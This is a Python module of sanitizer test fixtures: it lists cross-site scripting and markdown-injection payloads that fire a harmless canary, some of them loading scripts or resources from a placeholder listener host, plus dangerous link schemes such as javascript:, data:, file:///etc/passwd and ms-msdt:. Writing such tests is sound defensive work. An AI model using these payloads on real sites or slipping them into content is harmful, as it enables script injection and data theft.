"""Texts that try to become something else: markup that only appears after rendering, and links that lead astray.

`CANARY` stands for a script that would tell on itself, `LISTENER` for the address of a server that must never be asked.
"""

from __future__ import annotations

CANARY = "window.__pwned=1"
LISTENER = "http://listener.invalid"

# Plain attempts, for every place where foreign text is shown.
PLAIN = (
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
)

# Markdown that becomes markup by nesting, malformation or mutation.
MUTATIONS = (
    *PLAIN,
    "<script src=http://listener.invalid/s.js></script>",
    "<ScRiPt>window.__pwned=1</ScRiPt >",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<img src='http://listener.invalid/i.png'>",
    "<IMG SRC=x OnErRoR=window.__pwned=1//",
    "<img src=x:x onerror&#61;window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.__pwned=1&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.__pwned=1></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.__pwned=1 src>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=window.__pwned=1>'></textarea>",
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
    "<body onload=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src=http://listener.invalid/a.mp3 autoplay onerror=window.__pwned=1></audio>",
    "<object data='data:text/html,<script>parent.__pwned=1</script>'></object>",
    "<embed src='http://listener.invalid/e'>",
    "<base href='http://listener.invalid/'>",
    "<link rel=stylesheet href=http://listener.invalid/c.css>",
    "<link rel=prefetch href=http://listener.invalid/p>",
    "<style>@import 'http://listener.invalid/c.css'; *{background:url(http://listener.invalid/b)}</style>",
    "<meta http-equiv=refresh content='0;url=http://listener.invalid/m'>",
    "<div style='background:url(http://listener.invalid/d)'>styled</div>",
    "<a href='javascript:window.__pwned=1'>press</a>",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<?xml version='1.0'?><img src=x onerror=window.__pwned=1>",
    "**<img src=x onerror=window.__pwned=1>**",
    "[<img src=x onerror=window.__pwned=1>](https://example.com)",
    '![" onerror="window.__pwned=1](http://listener.invalid/alt.png)',
    "![x](http://listener.invalid/title.png \"' onerror='window.__pwned=1\")",
    '![x](x" onerror="window.__pwned=1)',
    '[x](https://example.com/" onmouseover="window.__pwned=1 "title")',
    "[x]: javascript:window.__pwned=1\n\n[x] and [a][x]",
    "| <img src=x onerror=window.__pwned=1> | b |\n|---|---|\n| <script>window.__pwned=1</script> | d |",
    "- [ ] <img src=x onerror=window.__pwned=1>\n- <svg onload=window.__pwned=1>",
    "> <iframe src=javascript:parent.__pwned=1>",
    "# <img src=x onerror=window.__pwned=1>",
    "`` <img src=x onerror=window.__pwned=1> ``",
    "```html\n<img src=x onerror=window.__pwned=1>\n</code></pre><script>window.__pwned=1</script>\n```",
    "```<img src=x onerror=window.__pwned=1>\ncode\n```",
    '~~~"><script>window.__pwned=1</script>\ncode\n~~~',
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "\\<script>window.__pwned=1\\</script>",
    "<<img src=x onerror=window.__pwned=1>script>window.__pwned=1</script>",
    "<x onclick=window.__pwned=1>press</x><custom-element onfocus=window.__pwned=1 tabindex=0>",
    '<https://example.com/"onclick=window.__pwned=1>',
    "$\\href{javascript:window.__pwned=1}{x}$ and $$\\unicode{<img src=x onerror=window.__pwned=1>}$$",
    '```mermaid\ngraph TD; A["<img src=x onerror=window.__pwned=1>"]; click A "javascript:window.__pwned=1"\n```',
)

# Where no link may lead: scripts, data, files, programs, and the tricks that hide them.
INERT_TARGETS = (
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "javascript&#58;window.__pwned=1",
    "java&Tab;script:window.__pwned=1",
    "java&#10;script:window.__pwned=1",
    "&#1;javascript:window.__pwned=1",
    "&#x6A&#x61;vascript:window.__pwned=1",
    "data:text/html,%3Cscript%3Eparent.__pwned=1%3C/script%3E",
    "data:image/svg+xml,%3Csvg%20onload=window.__pwned=1%3E",
    "vbscript:msgbox(1)",
    "blob:http://listener.invalid/1",
    "file:///etc/passwd",
    "smb://listener.invalid/share",
    "ms-msdt:/id%20PCWDiagnostic",
    "search-ms:query=x",
    "vscode://file/etc/passwd",
    "ssh://listener.invalid",
    "about:blank",
    "//listener.invalid/relative",
    "/api/models",
    "\\\\\\\\listener.invalid\\\\share",
    "view-source:http://listener.invalid",
)
